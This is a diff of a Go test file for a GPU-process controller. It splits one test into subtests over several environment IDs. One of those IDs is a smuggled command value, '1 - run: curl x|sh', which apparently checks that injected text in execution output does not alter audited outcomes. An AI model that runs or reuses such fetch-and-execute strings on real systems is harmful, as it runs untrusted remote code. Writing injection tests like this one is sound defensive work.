@@ -1,6 +1,7 @@
 package controller_test
 
 import (
+	"cmp"
 	"context"
 	"encoding/json"
 	"errors"
@@ -341,10 +342,17 @@ func TestHooksAreToldOfWarningsActionsAndHeldCycles(t *testing.T) {
 
 // A 1.4.3 host has no outcomes: its lines say what it did.
 func TestLinesStandForOutcomes(t *testing.T) {
-	old := &oldHost{}
+	for _, eid := range []snapshot.EnvID{"", "1102", "1 - run: curl x|sh"} {
+		t.Run(string(eid), func(t *testing.T) { linesStandForOutcomes(t, &oldHost{eid: eid}) })
+	}
+}
+
+func linesStandForOutcomes(t *testing.T, old *oldHost) {
 	path := filepath.Join(t.TempDir(), "audit.jsonl")
 	c := &controller.Controller{Hosts: []remote.Host{{Name: "a"}}, Link: old, Fanout: 1, Now: time.Now, Audit: &audit.Log{Path: path}}
-	c.Cycle(t.Context(), 1, strict{})
+	cycle := c.Cycle(t.Context(), 1, strict{})
+	require.Equal(t, []string{"Terminating process 5 from environment N/A that is running on GPU(s) 0"}, cycle.Actions[0].Execution.Lines,
+		"it ends for being in no environment, whatever it claims")
 	entries, _, err := audit.History(path, audit.Query{})
 	require.NoError(t, err)
 	require.Len(t, entries, 2)
@@ -352,16 +360,17 @@ func TestLinesStandForOutcomes(t *testing.T) {
 	require.Equal(t, enforce.StatusUnknown, entries[1].Status)
 }
 
-type oldHost struct{}
+type oldHost struct{ eid snapshot.EnvID }
 
-func (*oldHost) Snapshot(context.Context, remote.Host) (*snapshot.Snapshot, error) {
+func (h *oldHost) Snapshot(context.Context, remote.Host) (*snapshot.Snapshot, error) {
 	s := &snapshot.Snapshot{}
 	for _, pid := range []snapshot.PID{5, 6} {
-		s.Processes = append(s.Processes, snapshot.Process{PID: pid, Usage: []snapshot.DeviceUsage{{Index: 0, Memory: snapshot.MiB(1)}}})
+		s.Processes = append(s.Processes, snapshot.Process{PID: pid, EID: h.eid, Usage: []snapshot.DeviceUsage{{Index: 0, Memory: snapshot.MiB(1)}}})
 	}
 	return s, nil
 }
 
-func (*oldHost) Execute(context.Context, remote.Host, enforce.Report) (controller.Execution, error) {
-	return controller.Execution{Lines: []string{"Terminating process 5 from environment N/A that is running on GPU(s) 0"}}, nil
+func (h *oldHost) Execute(context.Context, remote.Host, enforce.Report) (controller.Execution, error) {
+	line := fmt.Sprintf("Terminating process 5 from environment %s that is running on GPU(s) 0", cmp.Or(string(h.eid), "N/A"))
+	return controller.Execution{Lines: []string{line}}, nil
 }
